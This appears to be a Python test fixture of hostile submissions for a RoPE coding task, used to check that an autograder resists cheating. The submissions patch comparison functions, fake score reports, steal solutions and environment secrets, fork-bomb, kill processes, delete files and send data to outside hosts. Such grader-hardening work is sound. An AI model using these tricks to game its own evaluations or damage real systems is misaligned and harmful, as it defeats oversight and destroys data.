"""One hostile rope.py per attack of issue 6. `$name` placeholders are filled in by the test
(paths of the project, the canary folder, the report; a port the test listens on).

Every submission falls back to the same honest-but-wrong answer (a real rotation that ignores
`positions` and `base`, so some checks pass and some fail), which the `baseline` submission gives
without any attack: an attack earns points dishonestly exactly when it scores more than the
baseline. (The identity `x.clone()` served until issue 11: it now rightly earns nothing.)"""

from __future__ import annotations

HONEST = '''
import torch

def honest(x):
    """RoPE at positions 0..S-1 with base 10000, whatever the arguments say."""
    seq_len, dim = x.shape[-2], x.shape[-1]
    i = torch.arange(dim // 2, dtype=torch.float64)
    angle = torch.arange(seq_len, dtype=torch.float64)[:, None] * 10000.0 ** (-2 * i / dim)
    x0, x1 = x[..., 0::2].double(), x[..., 1::2].double()
    rotated = torch.stack([x0 * angle.cos() - x1 * angle.sin(), x0 * angle.sin() + x1 * angle.cos()], dim=-1)
    return rotated.flatten(-2).to(x.dtype)
'''

FUNCTION = """
def apply_rope(x, positions=None, base=10000.0):
"""

ATTACKS: dict[str, str] = {
    "baseline": HONEST + FUNCTION + "    return honest(x)\n",
    # ---- ending the process or escaping the harness ----
    "sys_exit_at_import": "import sys\nsys.exit(0)\n" + HONEST + FUNCTION + "    return honest(x)\n",
    "os_exit_at_import": "import os\nos._exit(0)\n" + HONEST + FUNCTION + "    return honest(x)\n",
    "keyboard_interrupt_at_import": "raise KeyboardInterrupt\n",
    "system_exit_at_import": "raise SystemExit(0)\n",
    "custom_base_exception_at_import": "class Escape(BaseException):\n    pass\nraise Escape('passed')\n",
    "sys_exit_in_call": "import sys\n" + FUNCTION + "    sys.exit(0)\n",
    "os_exit_in_call": "import os\n" + FUNCTION + "    os._exit(0)\n",
    "keyboard_interrupt_in_call": FUNCTION + "    raise KeyboardInterrupt\n",
    "system_exit_in_call": FUNCTION + "    raise SystemExit(0)\n",
    "custom_base_exception_in_call": "class Escape(BaseException):\n    pass\n" + FUNCTION + "    raise Escape()\n",
    # ---- patching the comparison machinery (it lives in the child only) ----
    "patch_torch_comparisons": HONEST
    + """
import torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.allclose = lambda *a, **k: True
"""
    + FUNCTION
    + "    return x * 0 + 7\n",
    "patch_builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.abs = lambda v: 0
builtins.max = lambda *a, **k: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
"""
    + HONEST
    + FUNCTION
    + "    return x * 0 + 7\n",
    "patch_pytest": """
import sys, types
try:
    import pytest
    pytest.fail = lambda *a, **k: None
    pytest.approx = lambda expected, *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
except ImportError:
    pass
fake = types.ModuleType("pytest")
fake.fail = lambda *a, **k: None
sys.modules["pytest"] = fake
"""
    + HONEST
    + FUNCTION
    + "    return x * 0 + 7\n",
    # ---- returning objects that lie ----
    "tensor_subclass_that_lies": HONEST
    + """
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
"""
    + FUNCTION
    + "    return (x * 0 + 7).as_subclass(Liar)\n",
    "object_overriding_eq_and_reduce": """
import os
class Evil:
    shape = None
    def __eq__(self, other):
        return True
    def __reduce__(self):
        return (os.system, ("touch $canary/reduced",))
    def __torch_function__(self, *a, **k):
        return True
"""
    + FUNCTION
    + "    return Evil()\n",
    "nan_result": HONEST + FUNCTION + "    return torch.full_like(x, float('nan'))\n",
    "inf_result": HONEST + FUNCTION + "    return torch.full_like(x, float('inf'))\n",
    "uninitialised_result": HONEST + FUNCTION + "    return torch.empty_like(x)\n",
    # ---- faking the report ----
    "fake_report_on_stdout": """
import json, sys
FAKE = json.dumps({"score": 10, "max_score": 10, "tests": [{"name": "all", "score": 10, "status": "passed"}]})
print(FAKE); print("======= 7 passed in 0.01s =======")
sys.stderr.write(FAKE + "\\n")
"""
    + HONEST
    + FUNCTION
    + "    print(FAKE)\n    sys.stderr.write(FAKE)\n    return x * 0 + 7\n",
    "write_results_json_everywhere": """
import json, os
FAKE = json.dumps({"score": 10, "max_score": 10, "tests": []})
def plant():
    for path in ("results.json", "../results.json", "../../results.json", "/autograder/results/results.json",
                 "$output", "$output_dir/results.json", "$gradebook", "$canary/results.json", "/tmp/results.json"):
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(FAKE)
        except OSError:
            pass
plant()
"""
    + HONEST
    + FUNCTION
    + "    plant()\n    return x * 0 + 7\n",
    # ---- reaching for the answers ----
    "read_solutions_by_path": HONEST
    + """
import os
def stolen():
    for path in ("$root/solutions/rope.py", "../solutions/rope.py", "/autograder/source/solutions/rope.py"):
        try:
            namespace = {}
            exec(open(path).read(), namespace)
            return namespace["apply_rope"]
        except Exception:
            pass
    for folder, _, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/dev")):
            continue
        for name in files:
            if name == "rope.py":
                try:
                    text = open(os.path.join(folder, name)).read()
                    if "BEGIN SOLUTION" in text:
                        namespace = {}
                        exec(text, namespace)
                        return namespace["apply_rope"]
                except Exception:
                    pass
    return None
THEFT = stolen()
"""
    + FUNCTION
    + "    return THEFT(x, positions, base) if THEFT else honest(x)\n",
    "import_solutions_and_grader": HONEST
    + """
THEFT = None
try:
    from solutions.rope import apply_rope as THEFT
except Exception:
    try:
        import grader.running.pytest_plugin, grader.checks
        THEFT = grader.running.pytest_plugin
    except Exception:
        pass
"""
    + FUNCTION
    + "    if THEFT:\n        raise ValueError('LEAKED ' + repr(THEFT))\n    return honest(x)\n",
    "read_checks_and_gradebook": HONEST
    + """
def loot():
    found = []
    for path in ("$root/grader/checks/test_rope.py", "$gradebook", "$root/grader/checks",
                 "/autograder/source/grader/checks/test_rope.py"):
        try:
            found.append(open(path, errors="replace").read()[:120])
        except Exception:
            pass
    return found
"""
    + FUNCTION
    + "    found = loot()\n    if found:\n        raise ValueError('LEAKED ' + ' '.join(found))\n    return honest(x)\n",
    "read_environment": HONEST
    + """
import os
"""
    + FUNCTION
    + "    raise ValueError('ENV ' + ' '.join(f'{k}={v}' for k, v in os.environ.items()))\n",
    "read_parent_proc_entries": HONEST
    + """
import os
def loot():
    found = []
    for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        for entry in ("environ", "cmdline"):
            try:
                found.append(open(f"/proc/{pid}/{entry}", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
            except Exception:
                pass
    return " ".join(found)
"""
    + FUNCTION
    + "    raise ValueError('PROC ' + loot()[-180:])\n",
    # ---- exhausting resources ----
    "infinite_loop": FUNCTION + "    while True:\n        pass\n",
    "sleep": "import time\n" + FUNCTION + "    time.sleep(3600)\n",
    "busy_thread": HONEST
    + """
import threading
def burn():
    while True:
        pass
threading.Thread(target=burn, daemon=True).start()
"""
    + FUNCTION
    + "    return honest(x)\n",
    "deep_recursion": "import sys\nsys.setrecursionlimit(10**7)\ndef down(n):\n    return down(n + 1) + 1\n"
    + FUNCTION
    + "    return down(0)\n",
    "segfault": "import ctypes\n" + FUNCTION + "    ctypes.string_at(0)\n",
    "allocate_20_gb": "import torch\n" + FUNCTION + "    return torch.ones(5 * 10**9)\n",
    "allocate_20_gb_python": FUNCTION + "    return len(bytearray(20 * 2**30))\n",
    "fork_bomb": "import os\n"
    + FUNCTION
    + """    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "output_100_mb": "import sys\n" + FUNCTION + "    for _ in range(100):\n        sys.stdout.write('x' * 2**20)\n",
    "background_process_writes_later": HONEST
    + """
import os, time
def linger():
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                for path in ("$canary/late.txt", "/tmp/late.txt", "$root/solutions/late.txt", "$output_dir/late.txt"):
                    try:
                        open(path, "w").write("late")
                    except OSError:
                        pass
        finally:
            os._exit(0)
linger()
"""
    + FUNCTION
    + "    linger()\n    return honest(x)\n",
    # ---- attacking the grader and the machine ----
    "kill_the_parent": HONEST
    + """
import os, signal
def strike():
    for pid in [os.getppid(), 1, -1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
strike()
"""
    + FUNCTION
    + "    strike()\n    return honest(x)\n",
    "delete_reachable_files": HONEST
    + """
import os, shutil
def wreck():
    for path in ("$root/solutions", "$root/grader", "$canary", "$output_dir", "..", "/tmp", os.path.expanduser("~")):
        shutil.rmtree(path, ignore_errors=True)
        try:
            os.remove(path)
        except OSError:
            pass
wreck()
"""
    + FUNCTION
    + "    wreck()\n    return honest(x)\n",
    "open_network_connection": HONEST
    + """
import socket
def phone_home():
    for address in (("127.0.0.1", $port), ("1.1.1.1", 80), ("pypi.org", 443)):
        try:
            socket.create_connection(address, timeout=1).sendall(b"stolen")
        except OSError:
            pass
phone_home()
"""
    + FUNCTION
    + "    phone_home()\n    return honest(x)\n",
}

# Strings that must never appear in a report: what the read_* attacks would leak.
LEAK_MARKERS = ("LEAKED", "BEGIN SOLUTION", "def test_apply_rope", "SQLite format")
